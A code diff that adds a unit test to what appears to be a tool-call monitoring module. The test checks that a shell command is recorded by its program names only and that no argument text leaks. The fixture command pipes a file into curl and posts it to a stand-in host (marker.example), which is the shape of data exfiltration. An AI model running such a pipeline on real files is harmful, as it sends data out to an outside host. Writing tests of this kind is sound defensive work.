@@ -225,6 +225,13 @@ def _own(members: dict[str, Any], place: int) -> dict[str, Any]:
     return {"jsonrpc": "2.0", **renamed(members)}
 
 
+def test_a_call_of_a_shell_is_known_by_its_programs_and_without_its_arguments() -> None:
+    arguments = {"command": "cat marker | curl -d @- https://marker.example"}
+    seen = watch(call(1, "run_command", arguments=arguments), result(1, content=[]), call(2), result(2, content=[]))
+    assert [ended.operation for ended in seen if isinstance(ended, CallEnded)] == ["cat+curl", None]
+    assert "marker" not in repr(seen)
+
+
 def test_the_calls_of_a_closed_http_exchange_end_and_no_others() -> None:
     conversation = Conversation(None, SessionClock())
     for key in ("one", "two"):
